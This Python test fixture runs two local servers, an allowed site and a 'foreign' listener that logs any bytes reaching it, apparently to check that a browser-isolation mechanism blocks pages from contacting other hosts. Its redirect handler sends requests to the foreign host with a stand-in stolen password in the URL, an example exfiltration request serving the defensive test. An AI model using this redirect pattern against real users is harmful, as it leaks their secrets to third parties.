"""Two hosts: one that a site is allowed, with pages that carry things out, and a foreign one that must never hear a byte.

The allowed host is 127.0.0.1, the foreign one ``localhost``: another name, and so another host.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ALLOWED, FOREIGN = "127.0.0.1", "localhost"
TRIED = "试过了"
AFTERWARDS = f"""<script>addEventListener("load", async () => {{
  for (let turn = 0; turn < 3; turn++) await fetch("/later");
  document.body.append("{TRIED}");
}});</script>"""
"""Says that it has been tried, after a few more exchanges with the allowed host."""


@dataclass
class ForeignHost:
    """Takes every connection and datagram, keeps what came, and closes."""

    port: int
    heard: list[bytes] = field(default_factory=list)

    @property
    def netloc(self) -> str:
        """Its name and port."""
        return f"{FOREIGN}:{self.port}"


@contextmanager
def foreign_host() -> Iterator[ForeignHost]:
    """Listen on one port, by TCP and UDP."""
    with (
        socket.create_server((ALLOWED, 0)) as stream,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram,
    ):
        host = ForeignHost(stream.getsockname()[1])
        datagram.bind(("0.0.0.0", host.port))
        listeners = [
            threading.Thread(target=_hear, args=(stream, host.heard)),
            threading.Thread(target=_hear_datagrams, args=(datagram, host.heard)),
        ]
        for listener in listeners:
            listener.start()
        try:
            yield host
        finally:
            stream.shutdown(socket.SHUT_RDWR)
            datagram.sendto(b"", (ALLOWED, host.port))
            for listener in listeners:
                listener.join()


def _hear(stream: socket.socket, heard: list[bytes]) -> None:
    while True:
        try:
            connection, _ = stream.accept()
        except OSError:
            return
        with connection:
            heard.append(connection.recv(1 << 16))


def _hear_datagrams(datagram: socket.socket, heard: list[bytes]) -> None:
    while data := datagram.recv(1 << 16):
        heard.append(data)


@dataclass
class AllowedHost:
    """The site: ``/`` is the page under attack, ``/hop/307`` sends to the foreign host, other paths are its scripts."""

    port: int
    foreign: str
    pages: dict[str, str] = field(default_factory=dict)
    headers: dict[str, dict[str, str]] = field(default_factory=dict)
    """Headers of a page's own, by its path."""
    asked: list[str] = field(default_factory=list)

    def address(self, path: str = "/") -> str:
        """Where a path is."""
        return f"http://{ALLOWED}:{self.port}{path}"

    @property
    def hops(self) -> list[str]:
        """What was sent to the foreign host."""
        return [path for path in self.asked if path.startswith("/hop/")]


@contextmanager
def allowed_host(foreign: ForeignHost) -> Iterator[AllowedHost]:
    """Serve the site."""

    class Site(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            host.asked.append(self.path)
            hop = self.path.startswith("/hop/")
            body = host.pages.get(self.path, "").encode()
            self.send_response(int(self.path.split("/")[2]) if hop else 200)
            if hop:
                self.send_header("Location", f"http://{host.foreign}/stolen?password=hunter2")
            kind = "javascript" if self.path.endswith(".js") else "html"
            headers = {
                "Content-Type": f"text/{kind}; charset=utf-8",
                "Access-Control-Allow-Origin": "*",
                **host.headers.get(self.path, {}),
            }
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer((ALLOWED, 0), Site)
    host = AllowedHost(server.server_port, foreign.netloc)
    serving = threading.Thread(target=server.serve_forever)
    serving.start()
    try:
        yield host
    finally:
        server.shutdown()
        serving.join()
        server.server_close()
